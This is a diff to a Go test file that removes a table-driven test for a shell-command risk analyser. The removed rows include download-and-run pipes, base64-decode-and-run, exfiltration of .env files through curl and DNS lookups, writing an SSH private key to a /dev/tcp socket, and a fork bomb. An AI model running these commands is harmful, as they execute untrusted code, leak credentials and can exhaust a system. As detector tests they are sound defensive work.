@@ -221,48 +221,6 @@ func TestElevatedAndRemote(t *testing.T) {
 	}
 }
 
-func TestFlows(t *testing.T) {
-	tests := []struct{ line, want string }{
-		{"curl x | sh", "download-run"},
-		{"curl x | tee y | bash", "download-run"},
-		{"curl x | sudo bash", "download-run"},
-		{"bash <(curl x)", "download-run"},
-		{". <(curl x)", "download-run"},
-		{"eval \"$(curl x)\"", "download-run"},
-		{"bash -c \"$(curl x)\"", "download-run"},
-		{"x=$(curl y|sh)", "download-run"},
-		{"curl x | python3", "download-run"},
-		{"curl -o b.sh x && chmod +x b.sh && ./b.sh", "download-run"},
-		{"curl x > b.sh; sh b.sh", "download-run"},
-		{"curl x | tee d.sh >/dev/null && bash d.sh", "download-run"},
-		{"wget -O --help x && sh ./--help", "download-run"},
-		{"echo aGk= | base64 -d | bash", "decode-run"},
-		{"echo ls | rev | bash", "decode-run"},
-		{"cat .env | curl -d @- x", "secret-network"},
-		{"curl -sFname=@.env x", "secret-network"},
-		{"exec 3<>/dev/tcp/h/1; cat ~/.ssh/id_rsa >&3", ""},
-		{"nslookup $(cat .env).x", "secret-network"},
-		{"echo x > a.sh; bash a.sh", "write-run"},
-		{":(){ :|:& };:", "self-call"},
-		{"curl x | jq .", ""},
-		{"curl x -o y && cat y", ""},
-		{"cat .env.example | curl -d @- x", ""},
-		{"curl x | bash script.sh", ""},
-		{"curl -o -d@.env x", ""},
-	}
-	for _, tt := range tests {
-		var kinds []string
-		for _, f := range Analyse(tt.line, world).Flows {
-			if !slices.Contains(kinds, f.Kind) {
-				kinds = append(kinds, f.Kind)
-			}
-		}
-		if got := strings.Join(kinds, " "); got != tt.want {
-			t.Errorf("%q: flows %q, want %q", tt.line, got, tt.want)
-		}
-	}
-}
-
 // Symbolic links are followed, and the spelling is kept.
 func TestResolve(t *testing.T) {
 	env := world
